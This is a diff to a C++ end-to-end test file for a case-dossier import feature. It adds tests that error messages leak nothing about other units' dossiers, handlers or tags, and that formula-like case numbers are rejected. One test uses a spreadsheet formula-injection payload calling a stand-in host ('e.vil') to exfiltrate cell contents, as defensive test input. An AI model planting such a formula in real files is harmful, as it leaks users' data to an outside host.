@@ -9,6 +9,7 @@
 #include "tests/support/server_process.hpp"
 
 using namespace casetrail::test;
+using nlohmann::json;
 
 namespace {
 
@@ -19,6 +20,32 @@ CommandResult import(const ServerProcess& s, const std::string& file, std::vecto
 }
 
 std::string count(const ServerProcess& s, const std::string& sql) { return s.db.query_value(sql); }
+
+// An import of these rows through the API as `login`, and the problems its check names.
+json problems_of(ServerProcess& s, const std::string& login, const json& rows) {
+    const auto auth = "Authorization: Bearer " + s.token_for(login);
+    auto r = http_send(s.port, "POST", "/api/v1/imports", json{{"source", "probe.csv"}}.dump(), {auth});
+    REQUIRE(r.status == 201);
+    const auto id = std::to_string(json::parse(r.body)["id"].get<long long>());
+    r = http_send(s.port, "POST", "/api/v1/imports/" + id + "/rows", json{{"rows", rows}}.dump(), {auth});
+    REQUIRE(r.status == 200);
+    r = http_send(s.port, "GET", "/api/v1/imports/" + id + "/problems", "", {auth});
+    REQUIRE(r.status == 200);
+    return json::parse(r.body)["problems"];
+}
+
+// The problems of one line as "field: message", with `name` (a login, an EPC) written as <name>.
+std::vector<std::string> said(const json& problems, int line, const std::string& name) {
+    std::vector<std::string> out;
+    for (const auto& p : problems) {
+        if (p["line"] != line) continue;
+        auto text = p["field"].get<std::string>() + ": " + p["message"].get<std::string>();
+        for (auto at = text.find(name); !name.empty() && at != std::string::npos; at = text.find(name))
+            text.replace(at, name.size(), "<name>");
+        out.push_back(text);
+    }
+    return out;
+}
 
 const std::string kGood =
     "case_number,title,case_type,unit,handler,home,volume,epc\n"
@@ -122,7 +149,7 @@ TEST_CASE("every problem is named with its line, and a file with any problem imp
     CHECK(r.status == 2);
     for (const char* expected :
          {"line 3: volume: \"x\" is not a number", "line 3: unit: no unit has the code \"NOPE\"",
-          "line 3: handler: no active staff member has the login \"nobody\"",
+          "line 3: handler: no active staff member of your units has the login \"nobody\"",
           "line 3: home: no location has the code \"NO-SHELF\"", "line 3: epc: \"ZZZ\" is not an EPC",
           "line 4: case_number: 2026-CR-0005 is registered already with another title",
           "line 5: epc: tag E28011600000000000000007 is bound to 2026-CR-0007 volume 1",
@@ -155,4 +182,102 @@ TEST_CASE("every problem is named with its line, and a file with any problem imp
     CHECK_THAT(r.output, Catch::Contains("line 1: titel: is not a known column") &&
                              Catch::Contains("line 1: title: the required column is missing") &&
                              Catch::Contains("line 1: unit: the required column is missing"));
+}
+
+TEST_CASE("import problems tell a person nothing of another unit's dossiers, handlers or tags",
+          "[import][e2e][security]") {
+    ServerProcess s;
+    // Another bureau, with its own case handler and two tagged dossiers; liu.yang (clerk of CID-S1) sees none.
+    REQUIRE(s.post("/api/v1/units", {{"code", "ECO"}, {"name", "Economic Crimes"}, {"kind", "bureau"}}).status == 201);
+    REQUIRE(s.post("/api/v1/staff",
+                   {{"login", "eco.handler"}, {"name", "Eco Handler"}, {"unit", "ECO"}, {"roles", {"case_handler"}}})
+                .status == 201);
+    for (const auto& [cn, epc] :
+         {std::pair{"2026-EC-0001", "E2B0000000000000000000E1"}, {"2026-EC-0002", "E2B0000000000000000000E2"}}) {
+        REQUIRE(s.post("/api/v1/dossiers", {{"case_number", cn},
+                                            {"title", "挪用公款 Embezzlement"},
+                                            {"unit", "ECO"},
+                                            {"handler", "eco.handler"},
+                                            {"home", "HQ-R1-C1-S1"}})
+                    .status == 201);
+        REQUIRE(s.post("/api/v1/dossiers/" + std::string(cn) + "/volumes/1/tag", {{"epc", epc}}).status == 200);
+    }
+
+    // Another unit's handler reads exactly as a login nobody has (before, only the unknown one was a problem).
+    auto p = problems_of(
+        s, "liu.yang",
+        {{{"line", 2}, {"case_number", "2026-IM-0201"}, {"title", "t"}, {"unit", "CID-T1"}, {"handler", "eco.handler"}},
+         {{"line", 3},
+          {"case_number", "2026-IM-0202"},
+          {"title", "t"},
+          {"unit", "CID-T1"},
+          {"handler", "no.such.login"}},
+         {{"line", 4}, {"case_number", "2026-IM-0203"}, {"title", "t"}, {"unit", "CID-T1"}, {"handler", "wang.li"}}});
+    INFO(p.dump(1));
+    CHECK(said(p, 2, "eco.handler") ==
+          std::vector<std::string>{"handler: no active staff member of your units has the login \"<name>\""});
+    CHECK(said(p, 2, "eco.handler") == said(p, 3, "no.such.login"));
+    CHECK(said(p, 4, "").empty());
+
+    // Guessing another unit's dossier: the row that names its true title, type, handler, home and tag gets
+    // the very problems of a row that guesses them all wrong (before, the true one lost its case-number
+    // and tag problems, which confirmed every guess).
+    const json truth = {{{"line", 2},
+                         {"case_number", "2026-EC-0001"},
+                         {"title", "挪用公款 Embezzlement"},
+                         {"unit", "ECO"},
+                         {"handler", "eco.handler"},
+                         {"home", "HQ-R1-C1-S1"},
+                         {"volume", 1},
+                         {"epc", "E2B0000000000000000000E1"}}};
+    const json guess = {{{"line", 2},
+                         {"case_number", "2026-EC-0001"},
+                         {"title", "A guess"},
+                         {"case_type", "fraud"},
+                         {"unit", "ECO"},
+                         {"handler", "eco.handler"},
+                         {"home", "HQ-R1-C2-S1"},
+                         {"volume", 1},
+                         {"epc", "E2B0000000000000000000E2"}}};
+    const auto on_truth = problems_of(s, "liu.yang", truth);
+    const auto on_guess = problems_of(s, "liu.yang", guess);
+    INFO(on_truth.dump(1) << on_guess.dump(1));
+    CHECK(said(on_truth, 2, "E2B0000000000000000000E1") == said(on_guess, 2, "E2B0000000000000000000E2"));
+    CHECK(said(on_truth, 2, "E2B0000000000000000000E1") ==
+          std::vector<std::string>{"case_number: 2026-EC-0001 is registered already, in a unit outside yours",
+                                   "epc: tag <name> is bound to a dossier outside your units",
+                                   "handler: no active staff member of your units has the login \"eco.handler\"",
+                                   "unit: \"ECO\" is not one of the units you may import into"});
+    // Nothing of theirs is named: not the other dossier, not a volume, not a title.
+    CHECK(on_guess.dump().find("2026-EC-0002") == std::string::npos);
+    CHECK(on_guess.dump().find("volume") == std::string::npos);
+    CHECK(on_truth.dump().find("挪用") == std::string::npos);
+    // An admin sees both units: the true row is no problem at all.
+    CHECK(problems_of(s, "sun.hao", truth).empty());
+}
+
+TEST_CASE("an import holds case numbers to the alphabet of registering", "[import][e2e][security]") {
+    ServerProcess s;
+    const std::string formula = "=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")";
+    const auto p =
+        problems_of(s, "liu.yang",
+                    {{{"line", 2}, {"case_number", formula}, {"title", "t"}, {"unit", "CID-T1"}},
+                     {{"line", 3}, {"case_number", "E2801160000000000000ABCD"}, {"title", "t"}, {"unit", "CID-T1"}},
+                     {{"line", 4}, {"case_number", "2026-IM-0301"}, {"title", "t"}, {"unit", "CID-T1"}},
+                     {{"line", 5}, {"case_number", " "}, {"title", "t"}, {"unit", "CID-T1"}}});
+    INFO(p.dump(1));
+    CHECK(said(p, 2, "") == std::vector<std::string>{"case_number: \"" + formula +
+                                                     "\" must begin with a letter, a digit or an opening bracket (a "
+                                                     "spreadsheet would run it as a formula)"});
+    CHECK(said(p, 3, "") == std::vector<std::string>{"case_number: \"E2801160000000000000ABCD\" reads as an EPC (hex "
+                                                     "digits in groups of four): it would hide that tag's dossier"});
+    CHECK(said(p, 4, "").empty());
+    CHECK(said(p, 5, "") == std::vector<std::string>{"case_number: is missing"});
+    // The same through the CLI, and nothing is imported.
+    s.dir.write("formula.csv", "case_number,title,unit\n\"=HYPERLINK(\"\"http://e.vil\"\",\"\"x\"\")\",t,CID-T1\n");
+    const auto r = import(s, s.dir.file("formula.csv"));
+    INFO(r.output);
+    CHECK(r.status == 2);
+    CHECK_THAT(r.output, Catch::Contains("line 2: case_number:") && Catch::Contains("would run it as a formula"));
+    CHECK(count(s, "SELECT count(*) FROM dossiers WHERE case_number LIKE '=%'") == "0");
 }
